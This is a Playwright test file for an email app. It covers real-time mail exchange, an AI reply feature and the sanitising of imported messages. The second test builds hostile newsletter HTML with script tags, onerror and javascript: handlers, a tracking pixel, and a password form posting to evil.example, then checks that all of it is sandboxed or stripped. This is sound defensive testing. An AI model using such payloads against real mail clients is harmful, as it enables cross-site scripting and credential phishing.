import type { Page } from "@playwright/test";
import { expect, expectAccessible, test } from "./support/fixtures.ts";
import { Person } from "./support/person.ts";
import { shoot } from "./support/shoot.ts";

const card = (page: Page, subject: string) =>
  page.getByRole("list", { name: "Emails" }).getByRole("listitem", { name: subject, exact: true });
const dialog = (page: Page) => page.getByRole("dialog");
const toasts = (page: Page) => page.getByRole("status", { name: "Notifications" });
const button = (page: Page, name: string) => page.getByRole("button", { name, exact: true });
const row = (page: Page, name: string) =>
  page.getByRole("list", { name: "Conversations" }).getByRole("listitem", { name, exact: true });
const reader = (page: Page) => page.getByRole("region", { name: "Reader" });

test("MAIL-30, MAIL-31, decision 10: two people of one instance exchange mail in real time", async ({
  page,
  ada,
  instance,
  browser,
}) => {
  const bob = await Person.signUp(instance.url, "Bob Babbage");
  for (const person of [ada, bob]) await person.call("mailPreferences.update", { undoSeconds: 0 });
  const context = await browser.newContext({ baseURL: instance.url });
  const bobs = await context.newPage();
  await bob.signInPage(bobs);
  await bobs.goto("/email?view=inbox");
  await page.goto("/email");
  await expect(page.getByRole("heading", { name: "Email Management" })).toBeVisible();
  await page.keyboard.press("c");
  await dialog(page).getByLabel("To").fill(bob.email);
  await dialog(page).getByLabel("Subject").fill("Lunch");
  await dialog(page).getByLabel("Message").fill("Shall we meet at noon?");
  await button(page, "Send").click();
  await expect(card(page, "Lunch").getByText("Sent", { exact: true })).toBeVisible();
  await expect(card(bobs, "Lunch").getByRole("img", { name: "Unread" })).toBeVisible();
  await card(bobs, "Lunch").click();
  await dialog(bobs).getByRole("button", { name: "AI Reply" }).click();
  await expect(dialog(bobs).getByLabel("Message")).toHaveValue(/- Shall we meet at noon\?/);
  await dialog(bobs).getByRole("button", { name: "Relies on 1 line of the mail" }).click();
  await expectAccessible(bobs);
  await shoot(bobs, "citations");
  await dialog(bobs).getByRole("button", { name: "Send", exact: true }).click();
  await expect(card(bobs, "Lunch").getByRole("img", { name: "Unread" })).toHaveCount(0);
  await card(page, "Re: Lunch").click();
  await expect(dialog(page).getByText("In this conversation")).toBeVisible();
  await page.keyboard.press("Escape");
  await card(page, "Lunch").click();
  await dialog(page).getByRole("button", { name: "Delivery: sent" }).click();
  const steps = dialog(page).getByRole("list", { name: `Steps to ${bob.email}` });
  await expect(steps).toContainText(/Waiting to be sent.*Sent$/);
  await expectAccessible(page);
  await shoot(page, "delivery");
  await context.close();
});

const HOSTILE = `<html><head><style>.big{color:#a00}</style></head><body><table><tr><td style="padding:8px">
  <h1 class="big">Newsletter</h1><a href="javascript:parent.document.title='caught'">Offer</a>
  <a href="https://example.org/offer">Real offer</a>
  <img src="https://tracker.example.net/open.gif" width="1" height="1"><img src="https://cdn.example.net/hero.png" alt="Hero">
  <img src="x" onerror="parent.document.title='caught'"><script>parent.document.title = "caught"</script>
  <form action="https://evil.example"><input name="password"></form></td></tr></table></body></html>`;

test("MAIL-21: a message is imported from a file, and its hostile HTML is shown in a sandboxed frame", async ({
  page,
  ada,
}) => {
  const outside: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(ada.url) && !request.url().startsWith("data:")) outside.push(request.url());
  });
  await page.goto("/email?look=split");
  const choosing = page.waitForEvent("filechooser");
  await page.getByTitle("Part of the mailbox").click();
  await page.getByRole("menuitem", { name: "Import messages (.eml)" }).click();
  const head = ["From: Weekly <news@weekly.example>", `To: ${ada.email}`, "Subject: Offer of the week"];
  const type = ["Message-ID: <offer@weekly.example>", "Content-Type: text/html; charset=utf-8"];
  const buffer = Buffer.from([...head, ...type, "", HOSTILE].join("\r\n"));
  await (await choosing).setFiles({ name: "offer.eml", mimeType: "message/rfc822", buffer });
  await expect(toasts(page)).toContainText("Imported 1 message");
  await page.getByTitle("Part of the mailbox").click();
  await page.getByRole("menuitem", { name: "All mail" }).click();
  await row(page, "Offer of the week").click();
  const frame = reader(page).locator("iframe");
  await expect(frame).toHaveAttribute("sandbox", "allow-popups allow-popups-to-escape-sandbox");
  const mail = frame.contentFrame();
  await expect(mail.getByRole("heading", { name: "Newsletter" })).toHaveCSS("color", "rgb(170, 0, 0)");
  await expect(mail.getByText("Offer", { exact: true })).not.toHaveAttribute("href");
  await expect(mail.getByRole("link", { name: "Real offer" })).toHaveAttribute("rel", /noopener/);
  await expect(mail.locator("script, form, input, [onerror]")).toHaveCount(0);
  const blocked = reader(page).getByText("1 remote image blocked");
  await expect(blocked).toContainText("Tracker removed: tracker.example.net");
  await expect(page).toHaveTitle(/^Email Management/);
  await expectAccessible(page);
  await reader(page).getByRole("button", { name: "Show as text" }).click();
  await expect(frame).toHaveCount(0);
  expect(outside).toEqual([]);
});
